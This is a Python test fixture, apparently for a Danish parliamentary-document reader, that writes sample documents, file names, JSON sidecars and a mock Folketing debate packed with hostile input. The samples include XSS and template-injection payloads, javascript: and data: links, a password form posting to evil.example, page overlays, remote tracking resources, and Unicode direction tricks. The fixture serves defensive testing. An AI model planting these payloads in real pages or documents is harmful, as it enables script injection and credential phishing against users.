"""Documents that try to be more than text; each names itself by one made-up word, by which it is found."""

from __future__ import annotations

import json
from pathlib import Path

from corpus.disk import visible

EVIL = "https://evil.example"
_SCRIPTS = (
    "<script>window.ramt = 1</script> <img src=x onerror='window.ramt=1'> <svg onload='window.ramt=1'></svg> "
    "<iframe srcdoc='<script>parent.ramt=1</script>'></iframe> <body onload=window.ramt=1> <math><mi//xlink:href="
    "'data:x,<script>window.ramt=1</script>'> \"><script>alert(1)</script> "
    "</mark></p></article><script>alert(2)</script>"
)
_TEMPLATES = (
    "${window.ramt=1} {{constructor.constructor('window.ramt=1')()}} {%raw%} {@html '<img src=x "
    "onerror=window.ramt=1>'}"
    " #{window.ramt=1} <%= 1 %> [[${1}]] `window.ramt=1` $$\\href{javascript:window.ramt=1}{x}$$ \\u003cscript\\u003e"
)
_FORM = (
    f"<form action='{EVIL}/login' method=post>Adgangskode: <input type=password name=p autofocus><button>Log "
    f"ind</button>"
    "</form> <input type=text> <textarea></textarea> <select><option>x</option></select> <button "
    "formaction=x>Send</button>"
)
_OVERLAY = (
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Log ind igen</div> <dialog open>Log "
    "ind</dialog> "
    f"<style>@import '{EVIL}/s.css'; body{{display:none}} *{{position:fixed}}</style> <link rel=stylesheet "
    f"href={EVIL}/a.css>"
    f" <meta http-equiv=refresh content='0;url={EVIL}'> <base href='{EVIL}/'> <div popover id=p>x</div>"
)
_IMAGES = (
    f"<img src='{EVIL}/pixel.png'> <img srcset='{EVIL}/b.png 1x'> <video poster='{EVIL}/v.png' "
    f"src='{EVIL}/v.mp4'></video> "
    f"<audio src='{EVIL}/a.mp3' autoplay></audio> <object data='{EVIL}/o.swf'></object> <embed src='{EVIL}/e'> "
    f"<picture><source srcset='{EVIL}/p.png'></picture> <link rel=preload href='{EVIL}/f'> <table "
    f"background='{EVIL}/t.png'>"
)
_MARKDOWN = (
    f"![x]({EVIL}/m.png) [Log ind]({EVIL}/login) ![y][z] <{EVIL}> **fed** _kursiv_ ~~væk~~ `kode` # Overskrift\n\n"
    f"# Stor overskrift\n\n> citat\n\n- [ ] felt\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[z]: {EVIL}/z.png\n\n$$x^2$$"
)
_LINKS = (
    "<a href='javascript:window.ramt=1'>klik</a> [klik](javascript:window.ramt=1) "
    "[klik](data:text/html,<script>alert(1)"
    "</script>) <a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>hent</a> javascript:alert(1) "
    "[x](vbscript:msgbox) <a href=//evil.example target=_self>hjem</a> <area href='javascript:alert(1)'>"
)
_TURNED = (
    (
        "Betalt\u202e000.1\u202c kr. \u2066skjult\u2069 \u200fhøjre\u200e usyn\u200bligt\u200d \u061c \ufeff "
        "\U000e0041\U000e0042 nul\x00tegn bip\x07 slet\x7f \x1b[31mrød\x1b[0m linje\u2028skift a\ud83d"
    )
    .encode("utf-8", "replace")
    .decode()
)
_HUGE = f"{'Æ' * 20_000} {'<' * 3_000} {'ord' * 5_000} z{chr(0x301) * 3_000}algo {'(' * 2_000}"

ATTACKS = {
    "skriftangreb": _SCRIPTS,
    "skabelonangreb": _TEMPLATES,
    "formularangreb": _FORM,
    "dækkeangreb": _OVERLAY,
    "billedangreb": _IMAGES,
    "opmærkningsangreb": _MARKDOWN,
    "henvisningsangreb": _LINKS,
    "vendeangreb": _TURNED,
    "kæmpeangreb": _HUGE,
}


def write_attacks(folder: Path) -> None:
    """Write each attack into a document's text, title, speaker and question, its file's name, and its sidecar."""
    folder.mkdir(parents=True)
    for word, attack in ATTACKS.items():
        name = _name(word, attack)
        short = "".join(one for one in " ".join(attack.split())[:300] if one.isprintable())  # others are refused
        text = (
            f"{word.capitalize()} {short}\n\nOm {word} kan man læse, at {word} er {attack} og at {word} er farligt.\n"
        )
        (folder / name).write_text(text, encoding="utf-8", errors="replace")
        fields = dict.fromkeys(
            ("title", "minister", "ministry", "asker", "party", "committee", "number", "case"), short
        )
        sidecar = {**fields, "kind": "udvalgssvar", "url": f"javascript:window.ramt=1//{short[:50]}"}
        (folder / f"{name}.meta.json").write_text(json.dumps(sidecar), encoding="utf-8")
    (folder / "taler.txt").write_text(_DEBATE.format(short=_SCRIPTS[:60]), encoding="utf-8")


def _name(word: str, attack: str) -> str:
    """A file name that holds as much of the attack as the disk and the reader take; turned names they refuse."""
    told = "".join(character for character in attack if character != "/" and visible(character) == character)[:60]
    return f"{word} {told}.txt".encode("utf-8", "replace")[:200].decode(errors="ignore").removesuffix(".txt") + ".txt"


_DEBATE = """Folketinget, 12. møde

Kl. 13:00

Anna <script>window.ramt=1</script> Holm (<b>EL</b>):
Talerangreb er, når taleren hedder {short} og talerangreb står i navnet. Det er der meget at sige om her i salen.

Kl. 13:02

Bo "onmouseover=alert(1) Bek (V):
Et talerangreb til skal der også være plads til, for ellers var det ikke noget talerangreb.
"""
